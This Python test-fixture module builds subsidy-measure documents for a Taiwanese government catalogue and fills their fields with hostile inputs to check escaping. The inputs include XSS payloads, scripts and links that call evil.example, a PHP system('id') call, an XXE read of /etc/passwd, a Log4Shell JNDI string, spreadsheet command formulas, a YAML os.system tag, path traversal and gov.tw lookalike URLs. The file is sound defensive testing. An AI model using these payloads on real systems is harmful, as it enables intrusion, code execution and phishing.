"""What strangers might write into a measure: attacks, and documents that carry them.

In: nothing. Out: texts by name, and the text of a measure's file with one of them in given fields.
A successful script attack sets `window.pwned`, opens a dialog, or asks another host for something.
"""

import json
from collections.abc import Callable, Iterable
from typing import Any

JS = "window.pwned=1"

MARKUP = (
    f"<script>{JS}</script>",
    f"<ScRiPt>{JS}</sCrIpT>",
    f"<script src=https://evil.example/x.js></script>{JS}",
    f"</script><script>{JS}</script>",
    f"</title><script>{JS}</script>",
    f"</textarea></style></noscript><script>{JS}</script>",
    f'"><script>{JS}</script>',
    f"'><script>{JS}</script>",
    f"--><script>{JS}</script><!--",
    f"]]><script>{JS}</script>",
    f"<<script>script>{JS}<</script>/script>",
    f"<img src=x onerror={JS}>",
    f'<img src="x" onerror="{JS}"',
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f"<body onload={JS}>",
    f"<details open ontoggle={JS}>x</details>",
    f"<input autofocus onfocus={JS}>",
    f"<a href='javascript:{JS}'>x</a>",
    f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example/><button>送出</button></form>",
    "<template><script>1</script></template><!-- 沒有結束",
    "<?php system('id') ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<plaintext>",
    f"<xmp><script>{JS}</script>",
    f'" onmouseover="{JS}" x="',
    f"' onmouseover='{JS}' x='",
    f"` onmouseover=`{JS}`",
    f'" autofocus onfocus={JS} x=',
)
ENTITIES = (
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"&#60;script&#62;{JS}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{JS}&#x3c;/script&#x3e;",
    "&amp;amp; &ampamp; &notanentity; &# &#x; &#99999999; &#0; &#xD800;",
    "&lt &gt &quot &apos;",
    "&#x202e;gpj.exe",
    "&rlm;&zwj;&shy;&ZeroWidthSpace;",
    "&NewLine;&Tab;&nbsp;",
    '[x](https://www.gov.tw/ "&#x202e;")',
    "\\u003cscript\\u003e \\x3cscript\\x3e %3Cscript%3E",
)
LINKS = (
    f"[點這裡](javascript:{JS})",
    f"[點這裡](JaVaScRiPt:{JS})",
    f"[點這裡](java&#115;cript:{JS})",
    f"[點這裡](java\\script:{JS})",
    f"[點這裡](<java\tscript:{JS}>)",
    f"[點這裡](&#1;javascript:{JS})",
    f"[點這裡](%6aavascript:{JS})",
    f"[點這裡](data:text/html,<script>{JS}</script>)",
    f"[點這裡](data:text/html;base64,PHNjcmlwdD4)",  # noqa: F541
    f"[點這裡](vbscript:{JS})",
    "[點這裡](file:///etc/passwd)",
    f"[點這裡](view-source:javascript:{JS})",
    f"[點這裡](blob:https://evil.example/{JS})",
    "[點這裡](intent://x#Intent;scheme=http;end)",
    "[點這裡](ms-word:ofe|u|https://evil.example/x.docx)",
    "[點這裡](//evil.example/)",
    "[點這裡](/\\evil.example/)",
    "[點這裡](\\\\evil.example/)",
    "[點這裡](../../../../etc/passwd)",
    "[點這裡](https://www.gov.tw@evil.example/)",
    "[點這裡](https://www.ｇｏｖ.tw/)",
    "[點這裡](https://www.gоv.tw/)",
    "[點這裡](https://xn--gv-fka.tw/)",
    f"<javascript:{JS}>",
    f"[a]: javascript:{JS}\n\n[a]",
    f"[a]\n\n[a]: data:text/html,{JS}",
    f"![圖](javascript:{JS})",
    "![圖](https://evil.example/track.png)",
    f'[x](https://www.gov.tw/ "x" onclick="{JS}")',
    f"[x](https://www.gov.tw/\"onclick='{JS}')",
    f'[x](https://www.gov.tw/ "<script>{JS}</script>")',
    "[![x](https://evil.example/x)](https://www.gov.tw/)",
    "[a]: https://www.ｇｏｖ.tw/\n\n[a]",
    "[a]\n\n[a]: https://www.gоv.tw/",
    "<https://www.gоv.tw/>",
    "<https://xn--gv-fka.tw/>",
    "[點這裡](https://www.g&#1086;v.tw/)",
    "[a]: https://www.gov.tw@evil.example/\n\n[a]",
    "[a]\n\n[a]: //evil.example/",
    '[a]\n\n[a]: https://www.gov.tw/ "&#x202e;"',
    "[點這裡](mailto:a@gov.tw?bcc=x@evil.example&body=x)",
    "[點這裡](mailto:a@gov.tw,x@evil.example)",
    "[點這裡](tel:*%2306%23)",
    "[https://www.gov.tw/](https://evil.example/)",
    "[請到 www.gov.tw 申請](https://evil.example/)",
    "[**https://www.gov.tw/**](https://evil.example/)",
    "[ｗｗｗ.gov.tw](https://evil.example/)",
    "<webcal://evil.example/x>",
    "<x-odd+1.scheme:anything>",
)
MARKDOWN = (
    f"```<script>{JS}</script>\n</code></pre><script>{JS}</script>\n```",
    f'``` "onclick={JS}\nx\n```',
    f"    <script>{JS}</script>",
    f"`</code><script>{JS}</script>`",
    "# 大標題",
    "大標題\n======",
    "| a | b |\n|---|---|\n| <script>1</script> | </td></table> |",
    "[" * 500,
    "![" * 500 + "](" * 500,
    "*a **b " * 300,
    "> " * 300 + "深",
    "- " * 300 + "深",
    "\\" * 999,
    "<" * 999,
    "`" * 1000,
    "&" * 999,
    "[a](" * 400,
    "a" * 4000,
    "[x]: x\n" * 200,
    "|" * 900 + "\n" + "|-" * 450,
    "---\nnumber: 2\n---\n",
    "~~~\n沒有結束",
    "|a|b|c|\n|:-:|-:|:-|\n|1|2|3|",
    "~~~ {.x onclick=window.pwned=1}\nx\n~~~",
    "# a {#main onclick=window.pwned=1}",
    "## main\n\n## __proto__",
    "<!--> x -->",
    "<![CDATA[ x ]]>",
    "<!ELEMENT x>",
    "</main></body></html>",
    "<x-evil onclick=window.pwned=1>x</x-evil>",
    "$\\href{javascript:window.pwned=1}{x}$",
    "> - " * 80 + "深",
    "*_" * 200 + "x" + "_*" * 200,
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% raw %}",
    "{% include '/etc/passwd' %}",
    "{{ config.__class__.__mro__ }}",
    "{{ ''.__class__.__base__.__subclasses__() }}",
    "{# 註解 #}",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]] %(x)s {0} {x.__class__}",
    "{{",
    "{%",
    "%}{{ x",
    "${jndi:ldap://evil.example/x}",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/","x")',
    "+1+1",
    "-1+1|cmd",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1',
    '","=1+1',
    "'=1+1",
    "%0A=1+1",
    '=IMPORTXML("https://evil.example/","//a")',
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
)
LINES = (
    "第一行\nBEGIN:VEVENT",
    "第一行\r\nATTENDEE:mailto:x@evil.example",
    "第一行\rX-PWNED:1",
    "\\nEND:VCALENDAR\\n",
    '逗號,分號;反斜線\\冒號:引號"',
    "第一行\n\n\n\n第二行",
    "第一行\n=1+1",
    "第一行\n---\n第二行",
    "x\u0085y",
    "x\u2028y",
    "x\u2029y",
    "x\x0by",
    "x\x0cy",
)
HIDDEN = (
    "x\x00y",
    "x\x08y",
    "x\x1b[31my",
    "x\x7fy",
    "x\x9by",
    "x\u00ady",
    "x\u200by",
    "x\u200dy",
    "x\u200fy",
    "x\u202ey",
    "x\u2066y\u2069",
    "x\ufeffy",
    "x\ufffey",
    "x\U000e0041y",
    "x\u3164y",
    "x\u034fy",
    "x\u115fy",
    "x\u17b4y",
    "x\ufe0fy",
    "x\ufe0ey",
    "x\U000e0100y",
    "x\u180by",
    "x\u2800y",
    "x\ufffcy",
    "x\ufffdy",
    "x\u0600y",
    "x\U00013430y",
    "x\U0001bca0y",
    "x\U000e0fffy",
    "補助 \u05d0 200 萬元 300",
    "補助 \u0627 200 萬元 300",
    "x\U0001d173y",
    "x\U000f0000y",
    "x\ue000y",
    "x" + "\u0301" * 500,
)
LOOKALIKES = (
    "Ａｄｍｉｎ",
    "аdmіn",
    "ｊａｖａｓｃｒｉｐｔ:1",
    "\u2039script\u203a",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "é 和 e\u0301",
    "﹤script﹥",
    "𓀀𠮷👩",
    "\U0010ffff",
)
YAML = (
    "yes",
    "null",
    "~",
    "0x7f",
    "1e3",
    ".inf",
    ".nan",
    "012",
    "2016-02-15",
    "12:30:00",
    "!!python/object/apply:os.system [id]",
    "*a",
    "&a x",
    "{a: b}",
    "[a, b]",
    "x: y",
    "x #y",
    "- x",
    "? x",
    "| x",
    "%YAML 1.1",
    "__proto__",
    "constructor",
    "toString",
)
TEXTS = {
    f"{kind}-{number}": text
    for kind, texts in {
        "markup": MARKUP,
        "entities": ENTITIES,
        "links": LINKS,
        "markdown": MARKDOWN,
        "templates": TEMPLATES,
        "formulas": FORMULAS,
        "lines": LINES,
        "hidden": HIDDEN,
        "lookalikes": LOOKALIKES,
        "yaml": YAML,
    }.items()
    for number, text in enumerate(texts, start=1)
}

ADDRESSES = (
    f"javascript:{JS}",
    f"JAVASCRIPT:{JS}",
    f" javascript:{JS}",
    f"java\nscript:{JS}",
    f"data:text/html,<script>{JS}</script>",
    f"vbscript:{JS}",
    "file:///etc/passwd",
    "ftp://www.gov.tw/",
    "//evil.example/",
    "\\\\evil.example\\x",
    "https:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "https://",
    "https://www.gov.tw@evil.example/",
    "https://www.gov.tw:pass@evil.example/",
    "https://www.gоv.tw/",
    "https://www.ｇｏｖ.tw/",
    "https://www。gov。tw/",
    "https://xn--gv-fka.tw/",
    "https://www.gov.tw\\@evil.example/",
    "https://www.gov.tw/\u202egpj.exe",
    'https://www.gov.tw/"onclick="window.pwned=1',
    "https://www.gov.tw/'onclick='window.pwned=1",
    "https://www.gov.tw/><script>window.pwned=1</script>",
    "https://www.gov.tw/\r\nX-PWNED: 1",
    "https://www.gov.tw/ 空白",
    "https://www.gov.tw/{{7*7}}",
    "https://www.gov.tw:99999/",
    "https://www.gov.tw:port/",
    "https://[::1/",
    "https://[::1]/",
    "https://127.0.0.1/",
    "https://localhost/",
    "https://2130706433/",
    "https://0x7f.1/",
    "https://www..gov.tw/",
    "https://-www.gov.tw/",
    "https://www.gov.tw./",
    "https://" + "a" * 70 + ".tw/",
    "https://www.gov.tw/" + "a" * 9000,
    "https://www.gov.tw/%00",
    "https://www.gov.tw/&lt;script&gt;",
    "https://www.gov.tw/#javascript:alert(1)",
    "https://www.gov.tw/?q=);alert(1)//",
)

IDS = (
    "..",
    "../x",
    "../../etc/passwd",
    "/etc/passwd",
    "a/b",
    "a\\b",
    "C:\\x",
    ".",
    ".git",
    "con",
    "nul",
    "aux",
    "prn",
    "com1",
    "lpt9",
    "index",
    "index.html",
    "CITD",
    "Citd",
    "ｃｉｔｄ",
    "cítd",
    "ci\u0301td",
    "a b",
    "a%2fb",
    "a..b",
    "a?b",
    "a#b",
    "a:b",
    "a\x00b",
    "a\nb",
    "-a",
    "a-",
    "a--b",
    "a" * 61,
    "a" * 300,
    "",
    "__proto__",
    "$(id)",
    "{{7*7}}",
    "<b>",
)

Document = dict[str, Any]


def plain(number: int) -> Document:
    """A measure that is right, with every field that takes text."""
    return {
        "number": number,
        "title": f"措施 {number}",
        "summary": "每案最高補助 200 萬元。",
        "subcategory": "研發貸款協助",
        "agencies": ["經濟部工業局"],
        "keywords": ["日常說法"],
        "services": [
            {
                "type": "輔導補助",
                "name": "服務",
                "offer": "補助研發經費。",
                "audience": "製造業",
                "term": "一年",
                "amounts": [{"twd": 2000000, "text": "每案上限"}],
                "percents": [{"percent": 50, "text": "一半"}],
                "eligibility": [{"text": "有工廠登記"}],
                "windows": [
                    {
                        "kind": "fixed",
                        "label": "第一梯次",
                        "opens": "105-01-26",
                        "closes": "105-03-15",
                        "note": "說明",
                    }
                ],
            }
        ],
        "preferences": [{"type": "優先支持", "text": "審查時優先。"}],
        "contacts": [
            {
                "role": "主辦機關",
                "organisation": "經濟部工業局",
                "people": [{"name": "林技正", "phone": "(02)2754-1255", "note": "技術"}],
            }
        ],
        "links": [{"name": "網站", "url": "http://www.example.gov.tw/"}],
        "events": [{"date": "105-02-15", "place": "臺北", "name": "說明會"}],
        "caveats": ["手冊有兩種寫法。"],
        "source": "手冊第 1 頁",
        "body": "內文。",
    }


def _put(*path: str | int) -> Callable[[Document, str], None]:
    def put(document: Document, text: str) -> None:
        target: Any = document
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = text

    return put


SERVICE = ("services", 0)
FIELDS: dict[str, Callable[[Document, str], None]] = {
    "title": _put("title"),
    "summary": _put("summary"),
    "keyword": _put("keywords", 0),
    "service": _put(*SERVICE, "name"),
    "offer": _put(*SERVICE, "offer"),
    "audience": _put(*SERVICE, "audience"),
    "term": _put(*SERVICE, "term"),
    "amount": _put(*SERVICE, "amounts", 0, "text"),
    "percent": _put(*SERVICE, "percents", 0, "text"),
    "criterion": _put(*SERVICE, "eligibility", 0, "text"),
    "label": _put(*SERVICE, "windows", 0, "label"),
    "note": _put(*SERVICE, "windows", 0, "note"),
    "preference": _put("preferences", 0, "text"),
    "organisation": _put("contacts", 0, "organisation"),
    "person": _put("contacts", 0, "people", 0, "name"),
    "person-note": _put("contacts", 0, "people", 0, "note"),
    "link": _put("links", 0, "name"),
    "place": _put("events", 0, "place"),
    "event": _put("events", 0, "name"),
    "caveat": _put("caveats", 0),
    "source": _put("source"),
    "body": _put("body"),
}
ADDRESS_FIELD = _put("links", 0, "url")
ALIAS_FIELD = _put("aliases")
WORD_FIELDS: dict[str, Callable[[Document, str], None]] = {
    "subcategory": _put("subcategory"),
    "agency": _put("agencies", 0),
    "type": _put(*SERVICE, "type"),
    "kind": _put(*SERVICE, "windows", 0, "kind"),
    "opens": _put(*SERVICE, "windows", 0, "opens"),
    "closes": _put(*SERVICE, "windows", 0, "closes"),
    "preference-type": _put("preferences", 0, "type"),
    "role": _put("contacts", 0, "role"),
    "phone": _put("contacts", 0, "people", 0, "phone"),
    "ext": _put("contacts", 0, "people", 0, "ext"),
    "date": _put("events", 0, "date"),
    "verified_on": _put("verified_on"),
}
"""Fields that take no free text, only words, dates or numbers of a known form."""


def carrying(number: int, text: str, fields: Iterable[str]) -> Document:
    """A measure with `text` in each of the fields named."""
    document = plain(number)
    for field in fields:
        FIELDS[field](document, text)
    return document


def quoted(value: object) -> str:
    """YAML as an editor's program writes it: JSON, with characters as they are."""
    return json.dumps(value, ensure_ascii=False)


def escaped(value: object) -> str:
    """YAML that spells every other character as an escape, which hides it from a plain search."""
    if isinstance(value, str):
        return '"' + "".join(f"\\U{ord(character):08x}" for character in value) + '"'
    if isinstance(value, dict):
        return "{" + ", ".join(f"{key}: {escaped(item)}" for key, item in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(map(escaped, value)) + "]"
    return json.dumps(value)


def written(document: Document, write: Callable[[object], str] = quoted) -> str:
    """The text of the measure's file, a line for each key at the top."""
    keys = [f"{key}: {write(value)}" for key, value in document.items() if key != "body"]
    return "\n".join(["---", *keys, "---", document["body"], ""])
